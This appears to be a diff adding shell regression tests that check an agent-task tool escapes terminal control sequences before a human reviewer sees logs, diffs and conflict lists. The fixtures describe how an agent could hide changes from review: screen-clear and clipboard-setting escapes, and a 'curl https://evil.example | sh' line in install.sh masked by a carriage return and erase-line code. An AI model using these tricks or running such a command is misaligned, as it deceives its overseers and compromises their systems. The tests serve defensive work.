@@ -418,4 +418,98 @@ print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)' "$AT" -C 
 	refused "a 1.1 MB .gitattributes" "'.gitattributes' is 1.0 MiB, over the 1.0 MiB" -C repo commit t
 }
 
+# ---------------------------------------------------------------- hole 7: the reviewer's terminal
+
+# pty ARGS...: agenttask ARGS on a pseudo-terminal (stdout and stderr both),
+# as a person runs it; what it wrote there in $out, its status in $rc.
+pty() {
+	set +e
+	out=$(python3 "$HERE/ptyrun.py" "$AT" "$@")
+	rc=$?
+	set -e
+}
+
+# no_raw_controls WHAT TEXT: TEXT holds no control byte but newline and tab
+# once git's colour sequences (ESC [ ... m, which agenttask writes itself)
+# are taken out: no ESC, CR, BEL, backspace, DEL, nor a C1 (UTF-8 or raw).
+no_raw_controls() {
+	local left
+	left=$(printf '%s' "$2" | sed 's/\x1b\[[0-9;]*m//g' |
+		LC_ALL=C tr -d '\n\t' | LC_ALL=C tr -d ' -~\240-\377' | od -An -tx1 | tr -d ' \n')
+	left=${left//c2/}   # lead bytes of ordinary UTF-8 text
+	[ -z "$left" ] || fail "$1: raw control bytes reached the terminal: $left"
+}
+
+# The attack: the agent runs a command whose argv holds ESC [ 2 J (clear the
+# screen), an OSC 52 (set the reviewer's clipboard) and a UTF-8 C1 CSI.
+# Before, `agenttask log` printed them raw and the reviewer's terminal obeyed.
+# Now, on a terminal as to a pipe, the text shows them as \xNN; --json keeps
+# the exact argv for programs.
+test_log_shows_the_argv_of_a_run_escaped() {
+	task_repo
+	ok "run" -C repo run t -- true $'\e[2J' $'\e]52;c;ZXZpbA==\a' $'\xc2\x9b1m' $'a\rb'
+	pty -C repo log t
+	assert_eq "$rc" "0" "log on a terminal"
+	no_raw_controls "log" "$out"
+	assert_contains "$out" '\x1b[2J' "the ESC shown"
+	assert_contains "$out" '\x1b]52;c;ZXZpbA==\x07' "the OSC shown"
+	assert_contains "$out" '\xc2\x9b1m' "the C1 shown"
+	assert_contains "$out" 'a\x0db' "the CR shown"
+	ok "log to a pipe" -C repo log t
+	no_raw_controls "log to a pipe" "$out"
+	ok "log --json" -C repo log t --json
+	assert_eq "$(json_get "$out" 'j[-1]["argv"][1]')" $'\e[2J' "--json keeps the argv exact"
+}
+
+# The attack: a changed file whose lines hold a CR and ESC [ 2 K (the line
+# "curl https://evil | sh" then erased and overwritten with an innocent one),
+# a symbolic link whose target holds ESC, and a file name with a C1 that
+# core.quotepath=false lets through unquoted. On a terminal (coloured or
+# not) every one is shown as \xNN, only agenttask's own colours are raw; to
+# a pipe without colour the patch stays byte-exact, and `git apply` takes it.
+test_diff_on_a_terminal_shows_the_tasks_controls_escaped() {
+	task_repo
+	git -C repo config core.quotepath false
+	printf 'curl https://evil.example | sh\r\033[2K# a comment\n' >"$wt/install.sh"
+	ln -s "$(printf 'target\033[2Jx')" "$wt/link"
+	printf 'x\n' >"$wt/$(printf 'name\302\233')"
+	local mode
+	for mode in "" --color=never --stat --name-only; do
+		pty -C repo diff t $mode
+		assert_eq "$rc" "0" "diff $mode on a terminal"
+		no_raw_controls "diff $mode" "$out"
+		assert_contains "$out" 'name\xc2\x9b' "diff $mode: the C1 name shown"
+	done
+	pty -C repo diff t
+	assert_contains "$out" 'evil.example | sh\x0d\x1b[2K# a comment' "the CR and ESC shown"
+	assert_contains "$out" 'target\x1b[2Jx' "the link target shown"
+	"$AT" -C repo diff t >"$_at_root/patch"
+	grep -q "$(printf 'sh\r\033\\[2K#')" "$_at_root/patch" || fail "the piped patch is not exact"
+	git -C repo apply --check "$_at_root/patch" || fail "git apply refuses the piped patch"
+}
+
+# The attack: the task's file names carry ESC into the messages and lists a
+# person reads: a conflict list of accept, the merge preview of status.
+test_conflict_lists_show_the_tasks_names_escaped() {
+	make_repo repo
+	local name
+	name=$(printf 'conf\033[2Jlict')
+	printf 'base\n' >"repo/$name"
+	git -C repo add -A
+	git -C repo commit -q -m base
+	ok "new" -C repo new t
+	wt=$out
+	printf 'task\n' >"$wt/$name"
+	ok "commit" -C repo commit t
+	printf 'main\n' >"repo/$name"
+	git -C repo commit -q -am main
+	pty -C repo status t
+	no_raw_controls "status" "$out"
+	assert_contains "$out" 'would conflict in: conf\x1b[2Jlict' "the preview names it escaped"
+	pty -C repo accept t
+	assert_eq "$rc" "1" "accept refuses the conflict"
+	no_raw_controls "accept" "$out"
+	assert_contains "$out" 'conf\x1b[2Jlict' "the conflict list names it escaped"
+}
+
 run_tests
